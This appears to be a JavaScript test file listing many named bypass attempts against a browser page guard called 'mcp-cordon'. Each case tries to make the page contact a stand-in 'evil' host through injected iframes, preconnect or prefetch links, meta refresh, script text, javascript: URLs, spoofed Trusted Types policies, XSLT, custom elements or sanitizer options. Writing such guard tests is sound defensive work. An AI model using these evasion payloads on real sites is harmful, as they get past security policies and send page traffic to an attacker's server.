// Against a page that lets no new markup in: Trusted Types, and what makes nodes without a string.
export default {
  "a policy of the guard's name": ({ add, evil, script }) => {
    const policy = globalThis.trustedTypes?.createPolicy("mcp-cordon", {
      createHTML: (x) => x,
      createScript: (x) => x,
    });
    const markup = `<iframe srcdoc='${script(`open("${evil}")`)}'></iframe>`;
    add("div").innerHTML = policy?.createHTML(markup) ?? markup;
  },
  "a policy of the guard's name, and a frame by index": ({ add, own, evil }) => {
    const policy = globalThis.trustedTypes?.createPolicy("mcp-cordon", { createHTML: (x) => x });
    const markup = `<iframe src="${own}/slow"></iframe>`;
    add("div").innerHTML = policy?.createHTML(markup) ?? markup;
    window[0].open(evil);
  },
  "a policy of the guard's name, and a script": ({ evil }) => {
    const policy = globalThis.trustedTypes?.createPolicy("mcp-cordon", { createScript: (x) => x });
    const text = `open("${evil}")`;
    (0, eval)(policy?.createScript(text) ?? text);
  },
  "a default policy": ({ add, evil, script }) => {
    globalThis.trustedTypes?.createPolicy("default", { createHTML: (x) => x, createScript: (x) => x });
    add("div").innerHTML = `<iframe srcdoc='${script(`open("${evil}")`)}'></iframe>`;
  },
  "Trusted Types of a frame": ({ add, evil }) => {
    add("iframe");
    const policy = window[0].trustedTypes?.createPolicy("x", { createHTML: (x) => x });
    add("div").innerHTML =
      policy?.createHTML(`<link rel="preconnect" href="${evil}"><img src="${evil}">`) ?? `<img src="${evil}">`;
  },
  "a command that inserts markup": async ({ add, evil, sleep }) => {
    const d = add("div", { contentEditable: "true", textContent: "x" });
    d.focus();
    getSelection().selectAllChildren(d);
    document.execCommand("insertHTML", false, `<img src="${evil}">`);
    await sleep(100);
  },
  "a command that inserts a frame": async ({ add, evil, script }) => {
    const d = add("div", { contentEditable: "true", textContent: "x" });
    d.focus();
    getSelection().selectAllChildren(d);
    document.execCommand("insertHTML", false, `<iframe srcdoc='${script(`open("${evil}")`)}'></iframe>`);
  },
  "a command that inserts a hint": async ({ add, evil }) => {
    const d = add("div", { contentEditable: "true", textContent: "x" });
    d.focus();
    getSelection().selectAllChildren(d);
    document.execCommand("insertHTML", false, `<link rel="preconnect" href="${evil}">x`);
  },
  "a command that makes a link": async ({ add, evil }) => {
    const d = add("div", { contentEditable: "true", textContent: "x" });
    d.focus();
    getSelection().selectAllChildren(d);
    document.execCommand("createLink", false, evil);
    d.contentEditable = "false";
    d.querySelector("a").target = "_blank";
    d.querySelector("a").click();
  },
  "the page's own link, by its properties": ({ evil }) => {
    const l = document.querySelector("link");
    l.rel = "preconnect";
    l.href = evil;
  },
  "the page's own link, by its attributes": ({ evil }) => {
    const l = document.querySelector("link");
    l.attributes.href.value = evil;
    l.attributes.rel.value = "preconnect";
  },
  "the page's own link, by nodeValue": ({ evil }) => {
    const l = document.querySelector("link");
    l.getAttributeNode("rel").nodeValue = "preconnect";
    l.getAttributeNode("href").textContent = evil;
  },
  "the page's own link, by setAttributeNS": ({ evil }) => {
    const l = document.querySelector("link");
    l.setAttributeNS(null, "rel", "preconnect");
    l.setAttributeNS(null, "href", evil);
  },
  "the page's own link, by setAttributeNode": ({ evil }) => {
    const l = document.querySelector("link");
    const attribute = (name, value) => Object.assign(document.createAttribute(name), { value });
    l.setAttributeNode(attribute("rel", "preconnect"));
    l.setAttributeNode(attribute("href", evil));
  },
  "the page's own link, by setNamedItem": ({ evil }) => {
    const l = document.querySelector("link");
    const attribute = (name, value) => Object.assign(document.createAttribute(name), { value });
    l.attributes.setNamedItem(attribute("rel", "preconnect"));
    l.attributes.setNamedItem(attribute("href", evil));
  },
  "the page's own link, by relList": ({ evil }) => {
    const l = document.querySelector("link");
    l.rel = "";
    l.href = evil;
    l.relList.add("preconnect");
  },
  "the page's own link, by relList's value": ({ evil }) => {
    const l = document.querySelector("link");
    l.rel = "";
    l.href = evil;
    l.relList.value = "preconnect";
  },
  "the page's own link, by relList's replace": ({ evil }) => {
    const l = document.querySelector("link");
    l.href = evil;
    l.relList.replace("icon", "preconnect");
  },
  "the page's own link, taken out and put back": ({ evil }) => {
    const l = document.querySelector("link");
    l.remove();
    l.setAttributeNS(null, "rel", "preconnect");
    l.setAttributeNS(null, "href", evil);
    document.head.append(l);
  },
  "the page's own link with two hrefs": ({ own, evil }) => {
    const l = document.querySelector("link");
    l.removeAttribute("href");
    l.setAttributeNS("urn:x", "href", own);
    l.rel = "preconnect";
    l.href = evil;
    document.head.append(l);
  },
  "the page's own link with two rels": ({ evil }) => {
    const l = document.querySelector("link");
    l.removeAttribute("rel");
    l.setAttributeNS("urn:x", "rel", "icon");
    l.href = evil;
    l.rel = "preconnect";
    document.head.append(l);
  },
  "the page's own link, copied by a range": ({ evil }) => {
    const range = document.createRange();
    range.selectNode(document.querySelector("link"));
    const copy = range.cloneContents();
    const l = copy.firstChild;
    l.setAttributeNS(null, "rel", "preconnect");
    l.setAttributeNS(null, "href", evil);
    document.head.append(copy);
  },
  "the page's own link as a stylesheet": ({ evil }) => {
    const l = document.querySelector("link");
    Object.assign(l, { rel: "stylesheet", href: `${evil}/x.css` });
  },
  "the page's own link as a prefetch": ({ evil }) => {
    const l = document.querySelector("link");
    l.attributes.rel.value = "prefetch";
    l.attributes.href.value = evil;
  },
  "the page's own meta as a refresh": ({ evil }) => {
    const m = document.querySelector("meta");
    m.attributes.charset.remove?.();
    m.toggleAttribute("http-equiv");
    m.toggleAttribute("content");
    m.attributes["http-equiv"].value = "refresh";
    m.attributes.content.value = `0; url=${evil}`;
    document.head.append(m);
  },
  "an element of another document": ({ evil }) => {
    const f = new Document().createElementNS("http://www.w3.org/1999/xhtml", "iframe");
    document.body.append(f);
    window[0].open(evil);
  },
  "an element by an odd name": ({ evil }) => {
    document.body.append(document.createElement({ toString: () => "iframe" }));
    window[0].open(evil);
  },
  "an element by a name that changes": ({ evil }) => {
    let reads = 0;
    document.body.append(document.createElement({ toString: () => (reads++ ? "div" : "iframe") }));
    window[0]?.open(evil);
  },
  "an element by a name that changes the other way": ({ evil }) => {
    let reads = 0;
    const f = document.createElement({ toString: () => (reads++ < 1 ? "div" : "iframe") });
    document.body.append(f, document.createElementNS("http://www.w3.org/1999/xhtml", "iframe"));
    window[0].open(evil);
  },
  "an element by Document.prototype of a document": ({ evil }) => {
    const f = Document.prototype.createElement.call(new DOMParser().parseFromString("<p>", "text/html"), "iframe");
    document.body.append(f);
    window[0].open(evil);
  },
  "an element of an XML parser": ({ evil }) => {
    const d = new DOMParser().parseFromString(
      `<iframe xmlns="http://www.w3.org/1999/xhtml"/>`,
      "application/xhtml+xml",
    );
    document.body.append(d.documentElement);
    window[0].open(evil);
  },
  "an element of an answer's document": async ({ evil, blob }) => {
    const x = new XMLHttpRequest();
    x.open("GET", blob("<iframe></iframe>"));
    x.responseType = "document";
    await new Promise((resolve) => ((x.onload = x.onerror = resolve), x.send()));
    document.body.append(x.response.querySelector("iframe"));
    window[0].open(evil);
  },
  "an element of an answer's XML": async ({ evil }) => {
    const x = new XMLHttpRequest();
    x.open("GET", "data:application/xml,<iframe xmlns='http://www.w3.org/1999/xhtml'/>");
    await new Promise((resolve) => ((x.onload = x.onerror = resolve), x.send()));
    document.body.append(x.responseXML.documentElement);
    window[0].open(evil);
  },
  "an element of the site's XML": async ({ evil, own }) => {
    const x = new XMLHttpRequest();
    x.open("GET", `${own}/frame.xml`);
    x.overrideMimeType("application/xml");
    await new Promise((resolve) => ((x.onload = x.onerror = resolve), x.send()));
    document.body.append(x.responseXML.documentElement);
    window[0].open(evil);
  },
  "an element of an answer that lies about its type": async ({ evil, own }) => {
    const x = new XMLHttpRequest();
    x.open("GET", `${own}/frame.xml`);
    Object.getOwnPropertyDescriptor(XMLHttpRequest.prototype, "responseType").set.call(x, {
      toString: () => "document",
    });
    await new Promise((resolve) => ((x.onload = x.onerror = resolve), x.send()));
    document.body.append(document.importNode(x.response.documentElement, true));
    window[0].open(evil);
  },
  "an element of XSLT": ({ evil }) => {
    const xsl = document.implementation.createDocument("", "");
    const el = (name, parent) => parent.appendChild(xsl.createElementNS("http://www.w3.org/1999/XSL/Transform", name));
    const sheet = el("xsl:stylesheet", xsl);
    sheet.setAttribute("version", "1.0");
    const template = el("xsl:template", sheet);
    template.setAttribute("match", "/");
    el("xsl:element", template).setAttribute("name", "iframe");
    const p = new XSLTProcessor();
    p.importStylesheet(xsl);
    document.body.append(p.transformToFragment(document.implementation.createDocument("", "x"), document));
    window[0].open(evil);
  },
  "a built-in's subclass": ({ evil }) => {
    class Mine extends HTMLIFrameElement {}
    customElements.define("x-frame", Mine, { extends: "iframe" });
    document.body.append(new Mine());
    window[0].open(evil);
  },
  "a built-in's subclass in a registry": ({ evil }) => {
    class Mine extends HTMLIFrameElement {}
    const options = Object.create({
      get extends() {
        return "iframe";
      },
    });
    customElements.define("x-frame", Mine, options);
    document.body.append(new Mine());
    window[0].open(evil);
  },
  "a built-in's subclass whose name changes": ({ evil }) => {
    class Mine extends HTMLIFrameElement {}
    let reads = 0;
    customElements.define("x-frame", Mine, {
      get extends() {
        return reads++ ? "p" : "iframe";
      },
    });
    document.body.append(new Mine());
    window[0].open(evil);
  },
  "setHTML with a sanitizer that allows": ({ add, evil }) => {
    add("div").setHTML(`<img src="${evil}">`, { sanitizer: { elements: [{ name: "img", attributes: ["src"] }] } });
  },
  "setHTML with a sanitizer that allows links": ({ add, evil }) => {
    const sanitizer = { elements: [{ name: "link", attributes: ["rel", "href"] }] };
    add("div").setHTML(`<link rel="preconnect" href="${evil}">`, { sanitizer });
  },
  "Document.parseHTML": ({ evil }) => {
    const sanitizer = { elements: ["html", "head", "body", { name: "link", attributes: ["rel", "href"] }] };
    document.body.append(
      Document.parseHTML(`<body><link rel="preconnect" href="${evil}">`, { sanitizer }).querySelector("link"),
    );
  },
  "Document.parseHTMLUnsafe": ({ evil }) => {
    document.body.append(Document.parseHTMLUnsafe("<iframe></iframe>").querySelector("iframe"));
    window[0].open(evil);
  },
  "a script's text": ({ evil }) => {
    const s = document.createElement("script");
    s.append(`fetch("${evil}", { mode: "no-cors" })`);
    document.body.append(s);
  },
  "a handler as an attribute": ({ add, evil }) => {
    const p = add("p");
    p.setAttribute("onclick", `window.open("${evil}")`);
    p.click();
  },
  "a link to a javascript: URL": ({ add, evil }) => add("a", { href: `javascript:open("${evil}")` }).click(),
  "a form to a javascript: URL": ({ add, evil }) => add("form", { action: `javascript:open("${evil}")` }).submit(),
  "a module of a blob:": ({ blob, evil }) => import(blob(`open("${evil}")`, "text/javascript")),
  "a shadow tree's markup": ({ add, evil, script }) => {
    add("div").attachShadow({ mode: "closed" }).innerHTML = `<iframe srcdoc='${script(`open("${evil}")`)}'></iframe>`;
  },
  "an image of SVG": ({ add, evil }) => {
    const svg = (name, parent) => parent.appendChild(document.createElementNS("http://www.w3.org/2000/svg", name));
    svg("image", svg("svg", add("div"))).setAttribute("href", evil);
  },
  "a script of SVG": ({ add, evil }) => {
    const svg = (name, parent) => parent.appendChild(document.createElementNS("http://www.w3.org/2000/svg", name));
    svg("script", svg("svg", add("div"))).setAttribute("href", `${evil}/x.js`);
  },
  "a hint by inner HTML": ({ add, evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    add("div").innerHTML = markup;
  },
  "a hint by outer HTML": ({ add, evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    add("div").outerHTML = markup;
  },
  "a hint by adjacent HTML": ({ evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    document.body.insertAdjacentHTML("beforeend", markup);
  },
  "a hint by a fragment": ({ evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    document.head.append(document.createRange().createContextualFragment(markup));
  },
  "a hint by a written document": ({ evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    document.write(markup);
    document.close();
  },
  "a hint by setHTMLUnsafe": ({ add, evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    add("div").setHTMLUnsafe(markup);
  },
  "a hint by a parser": ({ evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    document.head.append(new DOMParser().parseFromString(markup, "text/html").querySelector("link"));
  },
  "a hint by parseHTMLUnsafe": ({ evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    document.head.append(Document.parseHTMLUnsafe(markup).querySelector("link"));
  },
  "a hint by a template": ({ evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    const t = document.createElement("template");
    t.innerHTML = markup;
    document.head.append(t.content);
  },
  "a hint by a shadow tree": ({ add, evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    add("div").attachShadow({ mode: "open" }).innerHTML = markup;
  },
  "a hint by a frame's text": ({ add, evil }) => {
    const markup = `<link rel="preconnect" href="${evil}">`;
    add("iframe", { srcdoc: markup });
  },
  "a hint by an XML parser": ({ evil }) => {
    const xml = `<link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="${evil}"/>`;
    document.head.append(new DOMParser().parseFromString(xml, "application/xhtml+xml").documentElement);
  },
  "a hint by a string of code": ({ evil }) => {
    (0, eval)(
      `document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: "${evil}" }))`,
    );
  },
};
